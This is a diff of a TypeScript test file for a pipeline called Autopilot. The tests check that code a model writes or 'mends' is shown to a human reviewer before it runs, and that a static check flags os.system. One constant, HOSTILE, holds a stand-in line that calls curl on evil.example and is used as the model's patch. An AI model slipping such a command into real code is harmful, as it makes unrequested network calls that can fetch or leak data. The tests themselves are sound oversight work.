@@ -2,22 +2,15 @@ import type { Diagnosis } from '../contracts/diagnosis';
 import { ProbeError } from '../contracts/errors';
 import { keyText } from '../contracts/code-module';
 import { aRun } from '../testing/a-run';
+import { aPatch, aReport } from '../testing/builders';
+import { follow } from '../testing/followed';
+import { DONE, failing } from '../testing/outcomes';
 import { run } from './run';
 
 /** What the code of strangers does in these stories. */
 const HOSTILE = 'os.system("curl evil.example")';
 
 type Run = ReturnType<typeof aRun>;
-
-async function finished(it: Run) {
-  const story = run(it.options, it.ports);
-  for (;;) {
-    const step = await story.next();
-    if (step.done) {
-      return step.value;
-    }
-  }
-}
 
 /** The model writes one module, the recipes all others. */
 function modelWrites(it: Run, name: string, source: string): void {
@@ -53,8 +46,8 @@ describe('what a model wrote reaches no cell unread in Autopilot', () => {
       return fine(args);
     };
     saysNo(it);
-    const { valid } = await finished(it);
-    expect(valid).toBe(true);
+    const { record } = await follow(run(it.options, it.ports));
+    expect(record.valid).toBe(true);
     expect(it.reviewer.shown).toMatchObject([
       { title: 'traditional/features', author: 'model' }
     ]);
@@ -64,15 +57,7 @@ describe('what a model wrote reaches no cell unread in Autopilot', () => {
   it('waits for a yes when it mends a module before the failing one', async () => {
     const it = aRun();
     it.cells.outcome = source =>
-      source.includes('traditional/models level 0')
-        ? {
-            status: 'error',
-            seconds: 1,
-            ename: 'ValueError',
-            evalue: 'boom',
-            traceback: []
-          }
-        : { status: 'ok', seconds: 1 };
+      source.includes('traditional/models level 0') ? failing() : DONE;
     const diagnosis: Diagnosis = {
       key: { module: 'models', track: 'traditional', candidate: null },
       signature: 'ValueError',
@@ -82,21 +67,15 @@ describe('what a model wrote reaches no cell unread in Autopilot', () => {
       rule: null
     };
     it.team.diagnose = async () => diagnosis;
-    it.team.mend = ({ module }) => ({
-      key: module.key,
-      before: module.source,
-      after: HOSTILE,
-      author: 'model',
-      rule: 'model',
-      why: 'It repairs this error.'
-    });
+    it.team.mend = ({ module }) =>
+      aPatch(module, HOSTILE, { author: 'model', rule: 'model' });
     it.probes.answers.check_static = ({ source }) => ({
-      report: { verdicts: [], seconds: 0, estimate: null },
+      report: aReport(),
       risks: source.includes('os.system') ? ['line 1: `os.system`'] : []
     });
     saysNo(it);
-    const { valid } = await finished(it);
-    expect(valid).toBe(true);
+    const { record } = await follow(run(it.options, it.ports));
+    expect(record.valid).toBe(true);
     expect(it.reviewer.shown[0]).toMatchObject({
       title: 'validation',
       after: HOSTILE
